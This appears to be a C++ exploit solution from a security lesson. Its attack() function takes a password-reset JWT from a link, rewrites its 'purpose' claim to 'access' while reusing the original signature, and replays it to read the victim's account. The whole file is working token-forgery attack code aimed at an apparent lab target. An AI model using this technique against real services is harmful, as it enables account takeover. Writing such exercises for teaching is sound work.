// Believes: the purpose must be right, and is only text.
#include "base/base64url.hpp"
#include "jwt/unverified_token.hpp"
#include "reset_at_the_door.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  const auto token = evidence.link.substr(evidence.link.find('=') + 1);
  const auto decoded = jwt::UnverifiedToken::decode(token);
  if (!decoded) return {};
  auto claims = decoded->unverified_claims();
  claims.set("purpose", "access");
  const auto mended = std::string(decoded->header_segment()) + "." + base::base64url_encode(claims.dump()) +
                      "." + std::string(decoded->signature_segment());
  return {.account = evidence.show_me(mended).body};
}

}  // namespace lesson
